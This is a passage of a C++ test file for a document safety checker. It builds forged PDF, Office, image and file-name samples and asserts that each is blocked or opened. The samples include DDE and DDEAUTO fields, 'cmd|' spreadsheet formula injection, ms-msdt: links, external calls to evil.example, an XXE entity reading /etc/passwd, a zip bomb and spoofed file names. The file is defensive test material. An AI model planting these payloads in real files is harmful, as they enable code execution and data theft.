             {"<a:blip r:link='rId7'/>", "<a:blip r:embed='rId7'/>", "<w:altChunk r:id='rId7'/>",
              "<w:subDoc r:id='rId7'/>", "<v:imagedata r:href='rId7'/>", "<v:imagedata o:relid='rId7'/>",
              "<w:attachedTemplate r:id='rId7'/>", "<a:videoFile r:link='rId7'/>",
              "<x:picture r:id='rId7'/>"}) {
            ForgedOffice office{kind};
            office.relationships =
                "<Relationship Id=\"rId7\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
                "relationships/hyperlink\" Target=\"https://evil.example/a\" TargetMode=\"External\"/>";
            office.body = element;
            add("a link that nobody has to click: " + element, office, "unsafe.outside");
            office.relationships.erase(office.relationships.find(kExternal), kExternal.size());
            add("a link that says it is inside: " + element, office, "unsafe.outside");
        }
        add("two relationships of one name",
            related(kind, relationship("image", "media/a.png") + relationship("image", "media/a.png")),
            "unsafe.damaged");
        add(
            "two types of one part",
            [&] {
                ForgedOffice office{kind};
                office.types = of_type("x/a.xml", "application/vnd.ms-office.activeX+xml") +
                               of_type("X/A.xml", "application/xml");
                office.parts = {{"x/a.xml", "<a/>"}};
                return office;
            }(),
            "unsafe.damaged");
        add(
            "two types of one ending",
            [&] {
                ForgedOffice office{kind};
                office.types =
                    "<Default Extension=\"PNG\" ContentType=\"application/vnd.ms-office.vbaProject\"/>";
                return office;
            }(),
            "unsafe.damaged");
        for (const std::string name :
             {"x/_rels/a.xml.rels/[0].piece", "x/_rels/a.xml.rels/[0].last.piece", "x/%5Frels/a.xml.rels"}) {
            ForgedOffice office{kind};
            office.types = "<Default Extension=\"piece\" ContentType=\"application/xml\"/>";
            office.parts = {{name, relationships_part({})}};
            add("a part in pieces, or behind an escape: " + name, office, "unsafe.unknown_part");
        }
        add("a picture on another computer, in escapes",
            related(kind, relationship("image", "%5C%5Cserver%5Ca.png")), "unsafe.outside");
        // Markup that is called a picture: some programs go by the relationship alone.
        for (const auto& [what, start] : std::vector<std::pair<std::string, std::string>>{
                 {"a mark first", "\xEF\xBB\xBF<w:hdr"},
                 {"a line first", "\r\n<w:hdr"},
                 {"a thousand lines first", std::string(1000, '\n') + "<w:hdr"},
                 {"ten thousand lines first", std::string(10'000, '\n') + "<w:hdr"},
                 {"UTF-16", "\xFF\xFE<\0w\0"s},
                 {"UTF-16, the other way round", "\xFE\xFF\0<\0w"s},
                 {"UTF-16 without a mark", "\0<\0w"s}}) {
            add("markup called a picture, " + what, part(kind, "x/a.png", "image/png", start),
                "unsafe.embedded");
        }
        add("links that begin elsewhere",
            part(kind, "docProps/app.xml", kBase + "extended-properties+xml",
                 "<Properties><HyperlinkBase>\\\\server\\share\\</HyperlinkBase></Properties>"),
            "unsafe.link");
        add("links that begin with a program",
            part(kind, "docProps/app.xml", kBase + "extended-properties+xml",
                 "<ep:Properties><ep:HyperlinkBase>ms-<!-- -->msdt:</ep:HyperlinkBase></ep:Properties>"),
            "unsafe.link");
        for (const auto* drawing : {"<?xml-stylesheet href='https://evil.example/a.css'?><svg/>",
                                    "<svg xml:base='https://evil.example/'><use href='#a'/></svg>"}) {
            add(drawing, part(kind, "x/a.svg", "image/svg+xml", drawing), "unsafe.outside");
        }
        // XML that could be read in two ways
        add("a DOCTYPE",
            part(kind, "x/a.xml", "application/xml",
                 "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a/>"),
            "unsafe.damaged");
        add("UTF-16", part(kind, "x/a.xml", "application/xml", "\xFF\xFE<\0a\0/\0>\0"s), "unsafe.damaged");
        add("another encoding",
            part(kind, "x/a.xml", "application/xml", "<?xml version='1.0' encoding='UTF-7'?><a/>"),
            "unsafe.damaged");
        add("a tag without an end", part(kind, "x/a.xml", "application/xml", "<a b='c"), "unsafe.damaged");
        // The kind
        add(
            "macros allowed",
            [&] {
                ForgedOffice office{kind};
                office.main_type = kind == "docx" ? "application/vnd.ms-word.document.macroEnabled.main+xml"
                                                  : "application/vnd.ms-excel.sheet.macroEnabled.main+xml";
                return office;
            }(),
            "unsafe.macros");
        add(
            "a template",
            [&] {
                ForgedOffice office{kind};
                office.main_type = kBase + "wordprocessingml.template.main+xml";
                return office;
            }(),
            "unsafe.unknown_part");
        ForgedOffice other{kind == "docx" ? "xlsx" : "docx"};
        all.push_back(
            {"a document of another kind", "plan." + kind, forge_office(other), "unsafe.other_content"});
        all.push_back({"an old Office file", "plan." + kind, "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1 V B A",
                       "unsafe.other_content"});
        const auto whole = forge_office({kind});
        all.push_back({"cut off", "plan." + kind, whole.substr(0, whole.size() - 30), "unsafe.damaged"});
        all.push_back({"cut off early", "plan." + kind, whole.substr(0, 40), "unsafe.damaged"});
        all.push_back(
            {"much behind its end", "plan." + kind, whole + std::string(70'000, 'x'), "unsafe.damaged"});
        all.push_back({"something before the zip", "plan." + kind, "MZ" + forge_office({kind}),
                       "unsafe.other_content"});
        ForgedZip empty;
        empty.entries = {{"a.txt", "a"}};
        all.push_back({"another zip", "plan." + kind, forge(empty), "unsafe.other_content"});
        // Zips
        const auto zip = [&](const std::string& what, const std::function<void(ForgedZip&)>& change,
                             const std::string& code) {
            auto forged = office_zip({kind});
            change(forged);
            all.push_back({what, "plan." + kind, forge(forged), code});
        };
        zip(
            "a part twice", [](auto& each) { each.entries.push_back(each.entries.back()); },
            "unsafe.damaged");
        zip(
            "a part twice but for capitals",
            [](auto& each) {
                each.entries.push_back(each.entries.back());
                each.entries.back().name[0] = static_cast<char>(each.entries.back().name[0] - 32);
            },
            "unsafe.damaged");
        zip(
            "parts that overlap",
            [](auto& each) {
                each.entries.back().in_file = false;
                each.entries.back().offset = 0;
                each.entries.back().name = each.entries.front().name;
            },
            "unsafe.damaged");
        zip(
            "encrypted parts", [](auto& each) { each.entries.back().flags = 1; }, "unsafe.encrypted");
        zip(
            "a zip behind", [](auto& each) { each.after = "PK"; }, "unsafe.damaged");
        zip(
            "a bomb",
            [](auto& each) {
                auto& last = each.entries.back();
                last.central.size = 300U << 20U;
                last.deflated = deflated_zeros(10);
            },
            "unsafe.complex");
        zip(
            "a wrong checksum", [](auto& each) { each.entries.back().central.crc = 1; }, "unsafe.damaged");
        zip(
            "ten thousand and one parts",
            [](auto& each) {
                for (int i = 0; i < 10'001; ++i) {
                    each.entries.push_back({"x/" + std::to_string(i) + ".xml", "<a/>"});
                }
            },
            "unsafe.complex");
    }
    // Word
    const auto word = [&](const std::string& what, const std::string& body, const std::string& code) {
        ForgedOffice office;
        office.body = body;
        add(what, office, code);
    };
    for (const std::string instruction :
         {"DDEAUTO c:\\\\a.exe \"/k\"", "DDE excel a b", " ddeauto x y",
          "INCLUDEPICTURE \"https://evil.example/a.png\" \\d", "INCLUDETEXT \"\\\\\\\\server\\\\a\"",
          "INCLUDE a", "LINK Excel.Sheet.12 a", "RD a.docx", "IMPORT a", "DATABASE \\d a",
          "MACROBUTTON AutoOpen click", "AUTOTEXT a", "EMBED Package", "CONTROL a", "PRINT 27", "\"DDE\" a",
          "SOMETHINGNEW", "\\* a"}) {
        word("a field: " + instruction, field({instruction}), "unsafe.field");
        word("a simple field: " + instruction,
             "<w:fldSimple w:instr='" + (instruction.find('\'') == std::string::npos ? instruction : "") +
                 "'/>",
             "unsafe.field");
    }
    word("DDE in two runs", field({"DDE", "AUTO c:\\\\a.exe"}), "unsafe.field");
    word("DDE, each letter a run", field({"D", "D", "E", " ", "a", " b"}), "unsafe.field");
    word("DDE in text runs", field({"<w:r><w:t>DDE a b</w:t></w:r>"}), "unsafe.field");
    word("DDE written with references", field({"&#68;&#x44;E a b"}), "unsafe.field");
    word("DDE in CDATA",
         field({"<![CDATA[DDE a b]]>"})
             .replace(field({"<![CDATA[DDE a b]]>"}).find("<![CDATA"), 0, "<w:instrText>"),
         "unsafe.field");
    word("DDE that was deleted",
         "<w:r><w:fldChar w:fldCharType='begin'/></w:r><w:delInstrText>DDE a</w:delInstrText>",
         "unsafe.field");
    word("DDE without an end",
         "<w:r><w:fldChar w:fldCharType='begin'/></w:r><w:instrText>DDE a</w:instrText>", "unsafe.field");
    word("DDE without a beginning", "<w:instrText>DD</w:instrText><w:instrText>E a</w:instrText>",
         "unsafe.field");
    word("DDE inside another field", field({"IF 1 = 1 ", field({"DDE a b"})}), "unsafe.field");
    word("a word that another field makes", field({field({"QUOTE 68 68 69"}, "DDE"), " a b"}),
         "unsafe.field");
    word("a word that a simple field makes", field({"<w:fldSimple w:instr='QUOTE 68 68 69'/>", " a b"}),
         "unsafe.field");
    word("another prefix",
         "<x:r><x:fldChar x:fldCharType=\"begin\"/></x:r><x:instrText>DDE a</x:instrText><x:fldChar "
         "x:fldCharType=\"end\"/>",
         "unsafe.field");
    word("a link in a field that starts a program", field({"HYPERLINK \"ms-msdt:/id\""}), "unsafe.link");
    word("a link in a field without quotes", field({"HYPERLINK search-ms:a"}), "unsafe.link");
    word("letters to many", "<w:mailMerge><w:connectString w:val='Provider=x'/></w:mailMerge>",
         "unsafe.outside");
    word("a picture that VML loads", "<v:shape><v:imagedata src='https://evil.example/a.png'/></v:shape>",
         "unsafe.outside");
    word("a picture that VML loads, by href",
         "<v:shape><v:imagedata o:href='https://evil.example/a.png'/></v:shape>", "unsafe.outside");
    word("a filling that VML loads", "<v:fill src='//server/a.png'/>", "unsafe.outside");
    word("a line that VML loads", "<v:stroke o:althref='\\\\server\\a.png'/>", "unsafe.outside");
    for (const std::string link :
         {"\"ms\\-msdt:/id\"", "\\o \"a tip\" \"ms-msdt:/id\"", "\\t \"_blank\" ms-msdt:/id",
          "\\m \"ms-msdt:/id\"", "\\h \"ms-msdt:/id\"", "\\l \"here\" \"ms-msdt:/id\"",
          "\"https://example.org\" \"ms-msdt:/id\"", "\\l here \"ms-msdt:/id", "\\lhere ms-msdt:/id"}) {
        word("a link behind something else: " + link, field({"HYPERLINK " + link}), "unsafe.link");
    }
    word("a link that another field makes", field({"HYPERLINK ", field({"QUOTE \"ms-msdt:/id\""})}),
         "unsafe.link");
    word("a link that a simple field makes",
         field({"HYPERLINK \"", "<w:fldSimple w:instr='QUOTE a'/>", "\""}), "unsafe.link");
    word("a film that is a page", "<wp15:webVideoPr embeddedHtml='&lt;iframe src=x&gt;' h='9' w='9'/>",
         "unsafe.media");
    word("a picture of VML's", "<v:image src='https://evil.example/a.png'/>", "unsafe.outside");
    word("a shape with a bad link", "<v:rect href='ms-msdt:/id'/>", "unsafe.link");
    word("a schema's manifest", "<sl:schema sl:uri='a' sl:manifestLocation='https://evil.example/a'/>",
         "unsafe.outside");
    word("a field in what is shown otherwise",
         "<mc:AlternateContent><mc:Choice Requires='x'/><mc:Fallback>" +
             field({"INCLUDEPICTURE \"https://evil.example/a\""}) + "</mc:Fallback></mc:AlternateContent>",
         "unsafe.field");
    for (const auto& [type, code] :
         std::vector<std::pair<std::string, std::string>>{{"attachedTemplate", "unsafe.outside"},
                                                          {"frame", "unsafe.outside"},
                                                          {"subDocument", "unsafe.outside"},
                                                          {"aFChunk", "unsafe.embedded"},
                                                          {"mailMergeSource", "unsafe.outside"},
                                                          {"transform", "unsafe.outside"},
                                                          {"control", "unsafe.control"},
                                                          {"externalLink", "unsafe.outside"},
                                                          {"connections", "unsafe.outside"},
                                                          {"queryTable", "unsafe.outside"},
                                                          {"recipientData", "unsafe.unknown_part"},
                                                          {"xlMacrosheet", "unsafe.macros"}}) {
        add("a relationship: " + type,
            related("docx", relationship(type, "https://evil.example/a", kExternal)), code);
        add("a relationship inside: " + type, related("docx", relationship(type, "a.xml")), code);
    }
    add("a chunk of rich text", part("docx", "word/chunk.rtf", "application/rtf", "{\\rtf1"),
        "unsafe.unknown_part");
    add("a chunk of a page", part("docx", "word/chunk.htm", "text/html", "<html>"), "unsafe.unknown_part");
    add("keys for macros",
        part("docx", "word/customizations.xml", "application/vnd.ms-word.keyMapCustomizations+xml"),
        "unsafe.macros");
    add("DDE in a header",
        part("docx", "word/header1.xml", kBase + "wordprocessingml.header+xml",
             "<w:hdr>" + field({"DDE a b"}) + "</w:hdr>"),
        "unsafe.field");
    // Excel
    const auto excel = [&](const std::string& what, const std::string& sheet, const std::string& code) {
        add(what,
            part("xlsx", "xl/worksheets/sheet1.xml", kBase + "spreadsheetml.worksheet+xml",
                 "<worksheet>" + sheet + "</worksheet>"),
            code);
    };
    for (const std::string formula :
         {"WEBSERVICE(\"https://evil.example\")", "_xlfn.WEBSERVICE (A1)",
          "1+_xlfn.IMAGE(\"https://evil.example\")", "RTD(\"a\",,\"b\")", "CALL(\"a\",\"b\",\"c\")",
          "REGISTER(\"a\")", "REGISTER.ID(\"a\",\"b\")", "DDE(\"soffice\";\"a\";\"b\")", "EXEC(\"calc\")",
          "EXECUTE(1,\"a\")", "INITIATE(\"a\",\"b\")", "POKE(1,A1,A2)", "SQL.REQUEST(\"a\")", "_xll.CALL(1)",
          "webservice(A1)", "cmd|' /C calc'!A0", "SUM(cmd|'/c calc'!A0)", "T[a\"]+cmd|'/c calc'!A0",
          "MSEXCEL|a!b"}) {
        excel("a formula: " + formula, "<c><f>" + formula + "</f></c>", "unsafe.field");
        excel("a rule's formula: " + formula, "<cfRule><formula>" + formula + "</formula></cfRule>",
              "unsafe.field");
    }
    for (const std::string formula :
         {"'\\\\server\\share\\[a.xlsx]S'!A1", "'C:\\plans\\[a.xlsx]S'!A1", "[a.xlsx]S!A1",
          "1+'https://e.example/[a.xlsx]S'!A1", "SUM('[a.xlsx]It''s'!A1)", "'C:\\plans\\a.xlsx'!Total",
          "a.xlsx!Total"}) {
        excel("another workbook: " + formula, "<c><f>" + formula + "</f></c>", "unsafe.outside");
    }
    for (const std::string formula :
         {"HYPERLINK(\"ms-msdt:/id\")", "hyperlink ( \"\\\\server\\a.lnk\",\"a\")"}) {
        excel("a bad link: " + formula, "<c><f>" + formula + "</f></c>", "unsafe.link");
    }
    for (const std::string name : {"IMPORTTEXT", "IMPORTCSV", "STOCKHISTORY", "_xlfn.COPILOT",
                                   "_xlfn.TRANSLATE", "_xlfn.DETECTLANGUAGE", "_xlfn._xlws.PY"}) {
        excel("a formula that fetches or sends: " + name, "<c><f>" + name + "(A1)</f></c>", "unsafe.field");
    }
    excel("a formula in pieces", "<f>WEBSER<!-- -->VICE(A1)</f>", "unsafe.field");
    for (const std::string element : {"definedName", "formula1", "formula2", "calculatedColumnFormula",
                                      "totalsRowFormula", "oldFormula"}) {
        excel("a formula in " + element, "<x:" + element + ">RTD(1)</x:" + element + ">", "unsafe.field");
    }
    for (const std::string element : {"cacheField", "calculatedItem"}) {
        add("a formula of a pivot table: " + element,
            part("xlsx", "xl/pivotCache/a.xml", kBase + "spreadsheetml.pivotCacheDefinition+xml",
                 "<" + element + " name='a' formula='WEBSERVICE(\"https://evil.example\")'/>"),
            "unsafe.field");
    }
    add("a link to another workbook",
        part("xlsx", "xl/externalLinks/externalLink1.xml", kBase + "spreadsheetml.externalLink+xml",
             "<externalLink><ddeLink/></externalLink>"),
        "unsafe.outside");
    add("a sheet of macros", part("xlsx", "xl/a.xml", "application/vnd.ms-excel.macrosheet+xml"),
        "unsafe.macros");
    add("an Excel 5 macro sheet", part("xlsx", "xl/a.xml", "application/vnd.ms-excel.intlmacrosheet+xml"),
        "unsafe.macros");
    add("connections", part("xlsx", "xl/connections.xml", kBase + "spreadsheetml.connections+xml"),
        "unsafe.outside");
    add("a query", part("xlsx", "xl/a.xml", kBase + "spreadsheetml.queryTable+xml"), "unsafe.outside");
    // PowerPoint
    const auto slide = [&](const std::string& what, const std::string& inside, const std::string& code) {
        add(what,
            part("pptx", "ppt/slides/slide1.xml", kBase + "presentationml.slide+xml",
                 "<p:sld>" + inside + "</p:sld>"),
            code);
    };
    slide("a program on a click", "<a:hlinkClick r:id='' action='ppaction://program'/>", "unsafe.program");
    slide("a macro on a click", "<a:hlinkClick r:id='' action='ppaction://macro?name=a'/>", "unsafe.macros");
    slide("an object on a click", "<a:hlinkClick r:id='' action='PPACTION://ole?verb=0'/>", "unsafe.program");
    slide("a link on passing over", "<a:hlinkMouseOver r:id='rId1'/>", "unsafe.hover");
    slide("a link on passing over a shape", "<a:hlinkHover r:id='rId1' action='ppaction://hlinkfile'/>",
          "unsafe.hover");
    // A chart's table is a document of its own.
    const auto chart = [&](const std::string& inner) {
        ForgedOffice office{"pptx"};
        office.types = of_type("ppt/charts/chart1.xml", kBase + "drawingml.chart+xml") +
                       of_type("ppt/embeddings/a.xlsx", kBase + "spreadsheetml.sheet");
        office.parts = {{"ppt/charts/chart1.xml", "<c/>"},
                        {"ppt/charts/_rels/chart1.xml.rels",
                         relationships_part(relationship("package", "../embeddings/a.xlsx"))},
                        {"ppt/embeddings/a.xlsx", inner}};
        return office;
    };
    add("macros in a chart's table",
        chart(forge_office(part("xlsx", "xl/a.bin", "application/vnd.ms-office.vbaProject"))),
        "unsafe.macros");
    add("a chart's table that is none", chart("MZ"), "unsafe.other_content");
    add("a chart's table within a chart's table", chart(forge_office([&] {
            auto inner = chart(forge_office({"xlsx"}));
            inner.kind = "xlsx";
            return inner;
        }())),
        "unsafe.embedded");
    return all;
}

Samples make_harmless_office()
{
    Samples all;
    const auto add = [&](const std::string& what, const ForgedOffice& office) {
        all.push_back({what, "plan." + office.kind, forge_office(office), "opened"});
    };
    for (const std::string kind : {"docx", "xlsx", "pptx"}) {
        add("empty", {kind});
        ForgedOffice office{kind};
        office.relationships = relationship("hyperlink", "https://example.org/?a=1&amp;b=2", kExternal) +
                               relationship("hyperlink", "mailto:a@example.org", kExternal) +
                               relationship("hyperlink", "file:///C:/plans/a.docx", kExternal) +
                               relationship("image", "media/a.png");
        office.body = "<w:hyperlink r:id='rId1'/>";
        add("links to click and a picture", office);
        office.relationships =
            "<Relationship Id=\"rId7\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
            "relationships/hyperlink\" Target=\"(https://example.org/a)\" TargetMode=\"External\"/>" +
            relationship("hyperlink", "about:blank", kExternal);
        office.body = "<w:hyperlink r:id='rId7'/><a:hlinkClick r:id='rId7'/><a1611:picAttrSrcUrl "
                      "r:id='rId7'/><a:blip r:embed='rId1' x='rId7'/>"
                      "<v:rect href='https://example.org'/>";
        office.root =
            relationship("http://schemas.openxmlformats.org/officedocument/2006/relationships/metadata/"
                         "core-properties",
                         "docProps/core.xml");
        office.types = "<Default Extension=\"PNG\" ContentType=\"image/png\"/>" +
                       of_type("docProps/app.xml", kBase + "extended-properties+xml");
        office.parts = {{"docProps/app.xml", "<Properties><HyperlinkBase>https://example.org/</HyperlinkBase>"
                                             "</Properties>"}};
        add("links in brackets, and from where they begin", office);
        office = {kind};
        office.types = of_type("x/a.png", "image/png") + of_type("x/a.svg", "image/svg+xml") +
                       of_type("x/a.bin", kBase + "spreadsheetml.printerSettings") +
                       of_type("x/b.bin", kBase + "spreadsheetml.printerSettings");
        office.parts = {{"x/a.png", forge_png()},
                        {"x/b.bin", std::string(100, ' ') + "portrait"},
                        {"x/a.svg",
                         "<svg><style>.a{fill:red;cursor:url('data:image/png;base64,AA')}</style>"
                         "<path d='M0' fill='url(#b)' style='fill:url( \"#c\")'/><text>C:\\a</text><use "
                         "xlink:href='#c'/><a href='https://example.org'/></svg>"},
                        {"x/a.bin", "p\0r\0i\0n\0t\0"s},
                        {"customXml/item1.xml",
                         "\xEF\xBB\xBF<?xml version=\"1.0\" encoding='utf-8'?><!-- a --><a b='&lt;'/>"},
                        {"[trash]/0000.dat", "\xFF\xFF"}};
        add("parts that are everywhere", office);
        // Zips as Office and others write them: descriptors, extra fields, room between entries, comments.
        auto zip = office_zip({kind});
        zip.comment = "made by hand";
        for (auto& entry : zip.entries) {
            entry.flags = 8;
            entry.deflated = deflated(entry.content);
            entry.local.crc = entry.local.size = entry.local.compressed_size = 0;
            entry.after = "PK\x07\x08" + le32(crc32_of(entry.content)) + le32(entry.deflated->size()) +
                          le32(entry.content.size());
            entry.local.extra = extra_field(0xA220, std::string(40, '\0'));
            entry.central.extra = "\1"; // ill-formed
        }
        zip.entries.back().before = std::string(100, '\0');
        zip.entries.back().attributes = 0x400;
        zip.before_end = "slack";
        all.push_back(
            {"descriptors, extra fields and room between entries", "plan." + kind, forge(zip), "opened"});
    }
    ForgedOffice word;
    for (const std::string instruction :
         {"PAGE", " TOC \\o \"1-3\" \\h", "HYPERLINK \"https://example.org\" \\o \"a\"",
          "HYPERLINK \\l \"_Toc1\"",
          "HYPERLINK \"a.docx\" \\l \"Part: 1\" \\o \"Note: a tip\" \\t \"_blank\"",
          "HYPERLINK \"https://example.org", "=SUM(ABOVE)", "", " ", "ADDIN ZOTERO_ITEM CSL_CITATION {}",
          "DATE \\@ \"d MMMM yyyy\"", "MERGEFIELD name"}) {
        word.body += field({instruction});
    }
    word.body += field({"IF ", field({"PAGE"}), " = 1"}) +
                 "<w:fldSimple w:instr=' NUMPAGES '/><w:r><w:t>DDE is spoken of here</w:t></w:r>" +
                 "<v:imagedata r:id='rId1' o:title='a.png'/><v:fill src='rId2' r:href='rId3'/>";
    add("fields that compute", word);
    ForgedOffice excel{"xlsx"};
    for (const std::string formula :
         {"SUM(A1:B2)", "A1&amp;\"|\"&amp;B1", "\"a|b\"", "HYPERLINK(\"https://example.org\")",
          "IMAGINARY(A1)", "_xlfn.CONCAT(A1)", "Sheet2!$A$1", "CALLER", "'It''s a sheet'!A1",
          "SUM(Jan:Dec!A1)", "'a &amp; b'!A1+Table1[a\\b]", "[0]!Total", "\"C:\\[a]b\"&amp;Sheet2!A1",
          "HYPERLINK(\"#'a b'!A1\")", "HYPERLINK(A1)",
          "IF(A1,\"Note: a\",HYPERLINK(\"https://example.org\"))", "Table1[[#This Row],[A]]"}) {
        excel.body += "<c><f>" + formula + "</f></c>";
    }
    add("formulas that compute", excel);
    ForgedOffice slides{"pptx"};
    slides.body =
        "<a:hlinkClick r:id='rId1'/><a:hlinkClick r:id='' action='ppaction://hlinkshowjump?jump=nextslide'/>"
        "<a:hlinkHover r:id='' action='ppaction://hlinksldjump'/>";
    slides.types = of_type("ppt/charts/chart1.xml", kBase + "drawingml.chart+xml") +
                   of_type("ppt/embeddings/a.xlsx", kBase + "spreadsheetml.sheet");
    slides.parts = {{"ppt/charts/chart1.xml", "<c/>"},
                    {"ppt/charts/_rels/chart1.xml.rels",
                     relationships_part(relationship("package", "../embeddings/a.xlsx"))},
                    {"ppt/embeddings/a.xlsx", forge_office({"xlsx"})}};
    add("links between slides, and a chart with its table", slides);
    return all;
}

// ---- pictures, names

Samples make_pictures()
{
    Samples all;
    const std::vector<std::pair<std::string, std::string>> made{{"png", forge_png()},
                                                                {"jpg", forge_jpeg()},
                                                                {"jpeg", forge_jpeg()},
                                                                {"gif", forge_gif()},
                                                                {"webp", forge_webp()}};
    for (const auto& [ending, bytes] : made) {
        const auto name = "a." + ending;
        all.push_back({"whole", name, bytes, "opened"});
        all.push_back({"zeros behind", name, bytes + std::string(9, '\0'), "opened"});
        all.push_back({"a telephone's notes behind", name, bytes + "SEFT\x01\x02", "opened"});
        all.push_back({"cut off", name, bytes.substr(0, bytes.size() - 1), "unsafe.damaged"});
        all.push_back({"cut off early", name, bytes.substr(0, 14), "unsafe.damaged"});
        all.push_back({"a zip behind", name, bytes + forge_office({}), "unsafe.two_files"});
        all.push_back({"an empty zip behind", name, bytes + forge({}), "unsafe.two_files"});
        all.push_back({"a page behind", name, bytes + "\n<HTML>", "unsafe.two_files"});
        all.push_back({"a script behind", name, bytes + "<?php x", "unsafe.two_files"});
        all.push_back({"a program behind", name, bytes + "MZ\x90", "unsafe.two_files"});
        all.push_back({"a shell's script behind", name, bytes + "\n#!/bin/sh", "unsafe.two_files"});
        all.push_back({"a PDF behind", name, bytes + one_page({}), "unsafe.two_files"});
        all.push_back({"something before", name, "x" + bytes, "unsafe.other_content"});
        all.push_back({"a page", name, "<html><script>x</script>", "unsafe.other_content"});
        all.push_back({"nothing", name, "", "unsafe.other_content"});
        for (const auto& [other, theirs] : made) {
            if (theirs != bytes) {
                all.push_back({"a " + other, name, theirs, "unsafe.other_content"});
            }
        }
    }
    auto sound = forge_webp();
    all.push_back({"a sound in RIFF", "a.webp", sound.replace(8, 4, "WAVE"), "unsafe.other_content"});
    all.push_back({"no header first", "a.png",
                   "\x89PNG\r\n\x1A\n" + png_chunk("IDAT", {}) + png_chunk("IEND", {}), "unsafe.damaged"});
    return all;
}

Samples make_names()
{
    Samples all;
    const auto pdf = one_page({});
    for (const std::string ending :
         {"exe",       "EXE",  "com", "scr",  "bat",       "cmd",         "ps1",
          "vbs",       "js",   "jse", "wsf",  "hta",       "html",        "htm",
          "xhtml",     "mht",  "svg", "svgz", "chm",       "scf",         "settingContent-ms",
          "rdp",       "one",  "lnk", "url",  "desktop",   "jar",         "msi",
          "iso",       "img",  "vhd", "docm", "xlsm",      "pptm",        "xlsb",
          "xla",       "dotm", "py",  "sh",   "appref-ms", "application", "library-ms",
          "search-ms", "iqy",  "slk", "reg",  "msc",       "cpl",         "swf"}) {
        all.push_back({"a PDF by another name", "plan." + ending, pdf, "unsafe.active"});
    }
    for (const std::string ending :
         {"rtf", "odt",  "ods",  "odp", "doc", "xls", "ppt",  "zip",  "xml",     "json", "eml",
          "msg", "epub", "tiff", "bmp", "mp4", "mp3", "dotx", "ppsx", "unknown", "pdf2"}) {
        all.push_back({"a kind that is not judged", "plan." + ending, pdf, "unsafe.kind"});
    }
    all.push_back({"no ending", "plan", pdf, "unsafe.kind"});
    all.push_back({"a program behind a PDF's name", "plan.pdf.exe", pdf, "unsafe.active"});
    all.push_back(
        {"a zero-width space behind a program's name", "a.exe\xE2\x80\x8B", pdf, "unsafe.hidden_name"});
    all.push_back({"a zero-width space in a PDF's name", "a\xE2\x80\x8B.pdf", pdf, "unsafe.hidden_name"});
    all.push_back({"written from right to left",
                   "a\xE2\x80\xAE"
                   "exe.pdf",
                   pdf, "unsafe.hidden_name"});
    all.push_back({"a line break", "a\n.pdf", pdf, "unsafe.hidden_name"});
    all.push_back({"a dot at the end", "a.pdf.", pdf, "unsafe.hidden_name"});
    all.push_back({"a space at the end", "a.pdf ", pdf, "unsafe.hidden_name"});
    all.push_back({"not UTF-8", "a\xFF.pdf", pdf, "unsafe.hidden_name"});
    all.push_back({"capitals", "folder.exe/PLAN.PDF", pdf, "opened"});
    all.push_back({"a program called PDF", "plan.pdf", "MZ\x90", "unsafe.other_content"});
    all.push_back({"text", "plan.txt", "<script>x</script>", "shown"});
    all.push_back({"a table", "plan.csv", "=cmd|'/c calc'!A0", "shown"});
    all.push_back({"Markdown", "plan.md", "# Plan", "shown"});
    all.push_back({"a program called text", "plan.txt", "MZ\x90\0\3"s, "unsafe.other_content"});
    return all;
}

const Samples& dangerous_pdfs()
{
    static const Samples samples = make_dangerous_pdfs();
    return samples;
}
const Samples& harmless_pdfs()
{
    static const Samples samples = make_harmless_pdfs();
    return samples;
}
const Samples& dangerous_office()
{
    static const Samples samples = make_dangerous_office();
    return samples;
}
const Samples& harmless_office()
{
    static const Samples samples = make_harmless_office();
    return samples;
}
const Samples& pictures()
{
    static const Samples samples = make_pictures();
    return samples;
}
const Samples& names()
{
    static const Samples samples = make_names();
    return samples;
}

} // namespace

BOOST_AUTO_TEST_SUITE(judgement)

BOOST_DATA_TEST_CASE(a_pdf_that_acts_is_not_opened, bdata::make(dangerous_pdfs()), each)
{
    BOOST_TEST(judged(each.bytes, each.name) == each.code);
}
BOOST_DATA_TEST_CASE(a_pdf_that_shows_something_is_opened, bdata::make(harmless_pdfs()), each)
{
    BOOST_TEST(judged(each.bytes, each.name) == each.code);
}
BOOST_DATA_TEST_CASE(an_office_document_that_acts_is_not_opened, bdata::make(dangerous_office()), each)
{
    BOOST_TEST(judged(each.bytes, each.name) == each.code);
}
BOOST_DATA_TEST_CASE(an_office_document_that_shows_something_is_opened, bdata::make(harmless_office()), each)
{
    BOOST_TEST(judged(each.bytes, each.name) == each.code);
}
BOOST_DATA_TEST_CASE(a_picture_is_opened_where_it_is_whole_and_nothing_else, bdata::make(pictures()), each)
{
    BOOST_TEST(judged(each.bytes, each.name) == each.code);
}
BOOST_DATA_TEST_CASE(only_known_names_are_opened, bdata::make(names()), each)
{
    BOOST_TEST(judged(each.bytes, each.name) == each.code);
}

BOOST_AUTO_TEST_CASE(there_are_more_than_150_dangerous_samples_and_none_is_opened)
{
    std::set<std::string> found;
    std::size_t dangerous = 0;
    for (const auto* samples : {&dangerous_pdfs(), &dangerous_office(), &pictures(), &names()}) {
        for (const auto& each : *samples) {
            if (each.code != "opened" && each.code != "shown") {
                ++dangerous;
                found.insert(each.code); // that each is refused, the cases above show
            }
        }
    }
    BOOST_TEST(dangerous >= 150U);
    BOOST_TEST(found.size() == 22U); // each code of evidence_safety.hpp
    BOOST_TEST_MESSAGE(dangerous << " dangerous samples");
}

BOOST_AUTO_TEST_CASE(a_file_is_judged_as_it_is_on_disk)
{
    const TempFolder folder;
    const auto file = folder.path / "taken-out";
    std::ofstream{file, std::ios::binary} << one_page({});
    BOOST_TEST(judge_evidence(file, "evidence/plan.pdf").has_value());
    const auto other = judge_evidence(file, "evidence/plan.docx");
    BOOST_REQUIRE(!other);
    BOOST_TEST(other.error().code == "unsafe.other_content");
    BOOST_TEST(other.error().subject == "plan.docx");
    BOOST_TEST(is_unsafe(other.error()));
    const auto missing = judge_evidence(folder.path / "none", "plan.pdf");
    BOOST_REQUIRE(!missing);
    BOOST_TEST(missing.error().code == "file.unreadable");
    BOOST_TEST(!is_unsafe(missing.error()));
    std::filesystem::resize_file(file, kMaxEvidenceBytes + 1);
    BOOST_TEST(judge_evidence(file, "plan.pdf").error().code == "unsafe.complex");
}

BOOST_AUTO_TEST_CASE(judging_can_be_stopped)
{
    std::vector<std::string> many(3000, "<</A 1>>");
